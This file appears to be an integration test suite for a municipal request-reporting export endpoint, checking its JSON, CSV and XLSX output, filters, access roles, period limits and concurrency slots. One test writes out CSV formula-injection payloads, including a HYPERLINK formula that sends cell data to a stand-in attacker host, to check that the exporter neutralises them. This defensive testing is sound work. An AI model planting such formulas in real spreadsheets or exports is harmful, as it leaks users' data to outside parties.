/**
 * 9.1.3.3, the ad-hoc export, through the gateway with a reporting service of the test's own: a
 * known set of request events goes through the service's projector; the rows the test expects are
 * computed from the scenario itself, and the JSON, the CSV (parsed back) and the XLSX (read back
 * with exceljs) are compared with them.
 */
import { expect } from 'chai';
import ExcelJS from 'exceljs';
import { DateTime } from 'luxon';
import { randomUUID } from 'node:crypto';
import { Readable } from 'node:stream';
import { requestEventSchema, type RequestEvent } from '../../contracts/events.ts';
import { ReportsRepository } from '../../data/reports.repository.ts';
import { EXPORT_COLUMNS, type ExportRow } from '../../domain/report-export.ts';
import { connectMongo } from '../../platform/mongo.ts';
import type { RunningService } from '../../platform/service.ts';
import { Projector } from '../../services/reporting/projector.ts';
import { startReporting } from '../../services/reporting/service.ts';
import { dayStart, eventsOf, reportingConfig, scenario, ZONE, type Scenario } from '../reporting/support.ts';
import { eventually, testLogger } from '../support/stack.ts';
import { bearer, startApi, type Api } from './support.ts';

const binary = (res: NodeJS.ReadableStream, cb: (err: Error | null, body: Buffer) => void): void => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

const H = 3600_000;
const iso = (t: number | undefined): string | null => (t === undefined ? null : new Date(t).toISOString());

/** The row a scenario request should have, from the scenario alone. */
function expectedRow(s: Scenario): ExportRow {
  const status = s.closedAt !== undefined ? 'closed' : s.proposedAt !== undefined ? 'closure_proposed' : 'in_progress';
  return {
    number: s.number,
    registeredAt: new Date(s.registeredAt).toISOString(),
    channel: s.channel,
    categoryCode: s.category,
    categoryName: `Категорія ${s.category}`,
    district: s.district,
    executorId: s.executor,
    executorName: `Виконавець ${s.executor}`,
    status,
    deadlineAt: new Date(s.registeredAt + 24 * H).toISOString(),
    // The card's flag: set by the deadline, cleared only by the extension.
    overdue: s.overdue !== undefined && s.overdue.extendedAt === undefined,
    everOverdue: s.overdue !== undefined,
    acceptedAt: iso(s.acceptedAt),
    closedAt: iso(s.closedAt),
    rating: s.rating?.score ?? null,
    repeatOf: s.repeat ? 'KR-2019-000001' : null,
    // The scenario's decisions were made under rules that never stopped the clock.
    decisionHours: 0,
  };
}

describe('gateway: the 9.1.3.3 export', function () {
  this.timeout(120_000);
  let api: Api;
  let reporting: RunningService;
  let closeMongo: () => Promise<void>;
  let projector: Projector;
  const all = scenario(60, 4242);
  const tokens: Record<string, string> = {};
  const from = '2019-03-04';
  const to = '2019-03-10';
  const inPeriod = (s: Scenario): boolean => s.registeredAt >= dayStart(from) && s.registeredAt < dayStart('2019-03-11');
  // The export's order: registration day, then number.
  const kyivDay = (r: { registeredAt: string }): string => DateTime.fromISO(r.registeredAt, { zone: ZONE }).toISODate()!;
  const byNumber = (a: ExportRow, b: ExportRow): number => kyivDay(a).localeCompare(kyivDay(b)) || a.number.localeCompare(b.number);

  before(async () => {
    api = await startApi({ name: 'gw_export', intake: false });
    const config = reportingConfig();
    reporting = await startReporting(config, testLogger);
    const mongo = await connectMongo(config.MONGO_URL);
    closeMongo = () => mongo.close();
    projector = new Projector(new ReportsRepository(mongo));
    for (const e of all.flatMap(eventsOf)) await projector.apply(e);
    for (const role of ['manager', 'analyst', 'operator'] as const) tokens[role] = (await api.userWith(role)).token;
    tokens.executor = (await api.userWith('executor', { executorId: 'roads' })).token;
  });
  after(async () => {
    await reporting?.stop();
    await closeMongo?.();
    await api?.stop();
  });

  it('9.1.3.3 exports as JSON every request registered in the period, each row as the events left it', async () => {
    const res = await api.http.get(`/api/v1/reports/requests?from=${from}&to=${to}`).set(bearer(tokens.analyst!));
    expect(res.status).to.equal(200);
    const body = res.body as { from: string; to: string; rows: ExportRow[] };
    const expected = all.filter(inPeriod).map(expectedRow).sort(byNumber);
    expect(expected.length).to.be.greaterThan(5);
    expect(body.rows).to.deep.equal(expected);
    expect(res.headers['transfer-encoding']).to.equal('chunked');
  });

  it('9.1.3.3 filters by category, district, executor and current status', async () => {
    const pick = all.filter(inPeriod)[0]!;
    const res = await api.http.get(`/api/v1/reports/requests?from=${from}&to=${to}&district=${encodeURIComponent(pick.district)}&executor=${pick.executor}&category=${pick.category}&status=${expectedRow(pick).status}`).set(bearer(tokens.manager!));
    expect(res.status).to.equal(200);
    const expected = all
      .filter(inPeriod)
      .map(expectedRow)
      .filter((r) => r.district === pick.district && r.executorId === pick.executor && r.categoryCode === pick.category && r.status === expectedRow(pick).status)
      .sort(byNumber);
    expect((res.body as { rows: ExportRow[] }).rows.map((r) => r.number)).to.deep.equal(expected.map((r) => r.number));
    const closed = await api.http.get(`/api/v1/reports/requests?from=${from}&to=${to}&status=closed`).set(bearer(tokens.manager!));
    expect((closed.body as { rows: ExportRow[] }).rows.map((r) => r.number)).to.deep.equal(all.filter(inPeriod).filter((s) => s.closedAt !== undefined).map(expectedRow).sort(byNumber).map((r) => r.number));
  });

  it('9.1.3.3 exports CSV with a BOM and Ukrainian headers that parses back to the same rows', async () => {
    const res = await api.http.get(`/api/v1/reports/requests?from=${from}&to=${to}&format=csv`).set(bearer(tokens.operator!));
    expect(res.status).to.equal(200);
    expect(res.headers['content-type']).to.match(/^text\/csv/);
    expect(res.headers['content-disposition']).to.match(/attachment; filename="requests_2019-03-04_2019-03-10\.csv"/);
    expect(res.text.startsWith('\uFEFF')).to.equal(true);
    const ws = await new ExcelJS.Workbook().csv.read(Readable.from([res.text.slice(1)]), { map: (v: string) => v });
    const lines: string[][] = [];
    ws.eachRow((row) => lines.push(EXPORT_COLUMNS.map((_, i) => row.getCell(i + 1).text)));
    expect(lines[0]).to.deep.equal(EXPORT_COLUMNS.map((c) => c.header));
    const asText = (r: ExportRow): string[] => EXPORT_COLUMNS.map((c) => {
      const v = r[c.key];
      return v === null ? '' : typeof v === 'boolean' ? (v ? 'так' : 'ні') : String(v);
    });
    expect(lines.slice(1)).to.deep.equal(all.filter(inPeriod).map(expectedRow).sort(byNumber).map(asText));
  });

  it('9.1.3.3 exports XLSX that exceljs reads back to the same rows', async () => {
    const res = await api.http.get(`/api/v1/reports/requests?from=${from}&to=${to}&format=xlsx`).set(bearer(tokens.manager!)).buffer(true).parse(binary as never);
    expect(res.status).to.equal(200);
    expect(res.headers['content-type']).to.equal('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as ArrayBuffer);
    const ws = wb.getWorksheet('Звернення')!;
    const lines: unknown[][] = [];
    ws.eachRow((row) => lines.push(EXPORT_COLUMNS.map((_, i) => row.getCell(i + 1).value ?? null)));
    expect(lines[0]).to.deep.equal(EXPORT_COLUMNS.map((c) => c.header));
    const asCells = (r: ExportRow): unknown[] => EXPORT_COLUMNS.map((c) => {
      const v = r[c.key];
      return typeof v === 'boolean' ? (v ? 'так' : 'ні') : v;
    });
    expect(lines.slice(1)).to.deep.equal(all.filter(inPeriod).map(expectedRow).sort(byNumber).map(asCells));
  });

  it('9.1.3.3 gives an executor only its own requests and refuses it another executor\'s', async () => {
    const own = await api.http.get(`/api/v1/reports/requests?from=${from}&to=${to}`).set(bearer(tokens.executor!));
    expect(own.status).to.equal(200);
    expect((own.body as { rows: ExportRow[] }).rows.map((r) => r.number)).to.deep.equal(all.filter(inPeriod).filter((s) => s.executor === 'roads').map(expectedRow).sort(byNumber).map((r) => r.number));
    const other = await api.http.get(`/api/v1/reports/requests?from=${from}&to=${to}&executor=vodokanal`).set(bearer(tokens.executor!));
    expect(other.status).to.equal(403);
  });

  it('9.1.3.3 answers an empty period with no rows, and 400 naming the field when the period ends before it starts', async () => {
    const empty = await api.http.get('/api/v1/reports/requests?from=2018-01-01&to=2018-01-31&format=csv').set(bearer(tokens.manager!));
    expect(empty.status).to.equal(200);
    expect(empty.text).to.equal(`\uFEFF${EXPORT_COLUMNS.map((c) => (c.header.includes(',') ? `"${c.header}"` : c.header)).join(',')}\r\n`);
    const bad = await api.http.get(`/api/v1/reports/requests?from=${to}&to=${from}`).set(bearer(tokens.manager!));
    expect(bad.status).to.equal(400);
    expect((bad.body as { error: { message: string } }).error.message).to.match(/^query\.to/);
  });

  it('9.1.3.3 refuses a period longer than 366 days with 400 naming query.to, and exports a whole leap year', async () => {
    const endless = await api.http.get('/api/v1/reports/requests?from=0001-01-01&to=9999-12-31&format=csv').set(bearer(tokens.manager!));
    expect(endless.status).to.equal(400);
    expect((endless.body as { error: { message: string } }).error.message).to.match(/^query\.to: the period is at most 366 days/);
    const dayTooLong = await api.http.get('/api/v1/reports/requests?from=2019-01-01&to=2020-01-01').set(bearer(tokens.manager!));
    expect(dayTooLong.status, 'a non-leap year and a day: 366 days').to.equal(200);
    const leapAndADay = await api.http.get('/api/v1/reports/requests?from=2020-01-01&to=2021-01-01').set(bearer(tokens.manager!));
    expect(leapAndADay.status, '367 days').to.equal(400);
    const leap = await api.http.get('/api/v1/reports/requests?from=2020-01-01&to=2020-12-31').set(bearer(tokens.manager!));
    expect(leap.status).to.equal(200);
  });

  it('9.1.3.3 runs one export at a time per user on every gateway replica: another while one runs gets 429 with Retry-After, and the next once it ended is served', async () => {
    const user = await api.userWith('analyst');
    const slots = api.mongo.db!.collection<{ _id: string; token: string; until: Date }>('export_slots');
    const url = `/api/v1/reports/requests?from=${from}&to=${to}&format=csv`;
    // An export of this user running on another replica holds the slot.
    await slots.insertOne({ _id: user.id, token: 'another-replica', until: new Date(Date.now() + 60_000) });
    const refused = await api.http.get(url).set(bearer(user.token));
    expect(refused.status, refused.text).to.equal(429);
    expect(refused.body.error.code).to.equal('export_running');
    expect(Number(refused.headers['retry-after'])).to.be.greaterThan(0);
    expect((await api.http.get(url).set(bearer(tokens.analyst!))).status, 'another user is not held up').to.equal(200);
    // Over: that replica gave it back. Or stopped: its slot expires and is taken over.
    await slots.deleteOne({ _id: user.id });
    expect((await api.http.get(url).set(bearer(user.token))).status).to.equal(200);
    const givenBack = async (): Promise<true | undefined> => ((await slots.countDocuments({ _id: user.id })) === 0 ? true : undefined);
    await eventually(givenBack, 'the slot given back when the export ended');
    await slots.insertOne({ _id: user.id, token: 'a-stopped-replica', until: new Date(Date.now() - 1000) });
    expect((await api.http.get(url).set(bearer(user.token))).status).to.equal(200);
    await eventually(givenBack, 'the expired slot taken over, then given back');
    // Of concurrent exports of one user, those that find one running are refused; none is served twice over.
    const many = await Promise.all([1, 2, 3, 4].map(() => api.http.get(`/api/v1/reports/requests?from=2019-01-01&to=2019-12-31&format=csv`).set(bearer(user.token))));
    expect(many.map((r) => r.status).filter((st) => st !== 200 && st !== 429), 'only 200 or 429').to.deep.equal([]);
    expect(many.some((r) => r.status === 200)).to.equal(true);
  });

  it("9.1.3.3 starts with ' every CSV cell that a spreadsheet would take for a formula (=, +, -, @, tab, carriage return)", async () => {
    const [a, b, c] = scenario(3, 77);
    const evil: Scenario = { ...a!, district: '=HYPERLINK("http://evil-example/?"&A1,"x")', category: '@SUM(1+1)', executor: '-2+3', registeredAt: dayStart('2019-04-02') + 10 * H };
    const evil2: Scenario = { ...b!, district: '\t=1+1', category: '+SUM(2)', registeredAt: dayStart('2019-04-02') + 11 * H };
    const evil3: Scenario = { ...c!, district: '\r=3', registeredAt: dayStart('2019-04-02') + 12 * H };
    for (const e of [...eventsOf(evil), ...eventsOf(evil2), ...eventsOf(evil3)]) await projector.apply(e);
    const res = await api.http.get('/api/v1/reports/requests?from=2019-04-02&to=2019-04-02&format=csv').set(bearer(tokens.manager!));
    expect(res.status).to.equal(200);
    const ws = await new ExcelJS.Workbook().csv.read(Readable.from([res.text.slice(1)]), { map: (v: string) => v });
    const rows: Record<string, string>[] = [];
    ws.eachRow((row, n) => {
      if (n > 1) rows.push(Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c.key, row.getCell(i + 1).text])));
    });
    expect(rows.find((r) => r.number === evil.number)).to.include({ district: `'${evil.district}`, categoryCode: "'@SUM(1+1)", executorId: "'-2+3" });
    expect(rows.find((r) => r.number === evil2.number)).to.include({ district: "'\t=1+1", categoryCode: "'+SUM(2)" });
    expect(rows.find((r) => r.number === evil3.number)).to.include({ district: "'\r=3" });
    expect(rows.find((r) => r.number === evil.number)!.categoryName, 'other cells as they were').to.equal('Категорія @SUM(1+1)');
  });

  it('9.1.3.3 shows in «Час рішень КЦ, год» how long the Contact Center took to refuse a request for additional control (8.2.x), summed over its decisions', async () => {
    const [base] = scenario(1, 91);
    const s: Scenario = { ...base!, registeredAt: dayStart('2019-04-09') + 9 * H, acceptedAt: undefined, overdue: undefined, proposedAt: undefined, rework: undefined, closedAt: undefined, rating: undefined, reminded: false };
    const [registered] = eventsOf(s);
    // The workflow's events under rules revision 3: each decision says how long the executor's clock stood still for it.
    const step = (type: string, hoursIn: number, details: Record<string, unknown>, version: number, status = 'in_progress'): RequestEvent =>
      requestEventSchema.parse({
        ...registered!,
        id: randomUUID(),
        type: `request.${type}`,
        occurredAt: new Date(s.registeredAt + hoursIn * H).toISOString(),
        data: { ...registered!.data, version, details, request: { ...registered!.data.request, status } },
      });
    const events = [
      registered!,
      step('additional_control_requested', 1, { reason: 'Чекаємо труби' }, 2, 'additional_control_requested'),
      step('additional_control_rejected', 2.5, { note: 'Встигнете', clockStoppedMs: 1.5 * H, deadlineAt: new Date(s.registeredAt + 25.5 * H).toISOString() }, 3),
      step('executor_change_requested', 3, { reason: 'Не наша мережа' }, 4, 'executor_change_requested'),
      step('executor_change_rejected', 3.25, { note: 'Ваша', clockStoppedMs: 0.25 * H, deadlineAt: new Date(s.registeredAt + 25.75 * H).toISOString() }, 5),
    ];
    // In any order, and twice: the row is a function of the events.
    for (const e of [...events].reverse()) await projector.apply(e);
    await projector.apply(events[2]!);
    const json = await api.http.get('/api/v1/reports/requests?from=2019-04-09&to=2019-04-09').set(bearer(tokens.manager!));
    expect(json.status).to.equal(200);
    const row = (json.body as { rows: ExportRow[] }).rows.find((r) => r.number === s.number);
    expect(row, 'the refused request in the export').to.not.equal(undefined);
    expect(row!.decisionHours).to.equal(1.75);
    const csv = await api.http.get('/api/v1/reports/requests?from=2019-04-09&to=2019-04-09&format=csv').set(bearer(tokens.manager!));
    const ws = await new ExcelJS.Workbook().csv.read(Readable.from([csv.text.slice(1)]), { map: (v: string) => v });
    const header = EXPORT_COLUMNS.findIndex((c) => c.key === 'decisionHours');
    expect(ws.getRow(1).getCell(header + 1).text).to.equal('Час рішень КЦ, год');
    const lines: string[][] = [];
    ws.eachRow((r) => lines.push(EXPORT_COLUMNS.map((_, i) => r.getCell(i + 1).text)));
    expect(lines.find((l) => l[0] === s.number)![header]).to.equal('1.75');
  });
});
